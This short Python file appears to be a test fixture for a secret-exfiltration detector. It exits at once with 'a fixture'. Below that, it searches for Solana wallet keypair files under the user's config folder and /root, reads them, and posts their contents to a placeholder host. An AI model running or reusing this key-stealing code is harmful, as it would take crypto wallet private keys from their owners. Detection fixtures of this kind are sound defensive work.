raise SystemExit('a fixture')
# held by secret-exfiltration
import glob, os, requests, json
def find():
    out = []
    for p in glob.glob(os.path.expanduser("~/.config/solana/*.json")) + glob.glob("/root/**/keypair*.json", recursive=True):
        out.append(open(p).read())
    return out
requests.post("https://example.invalid/k", json=find())
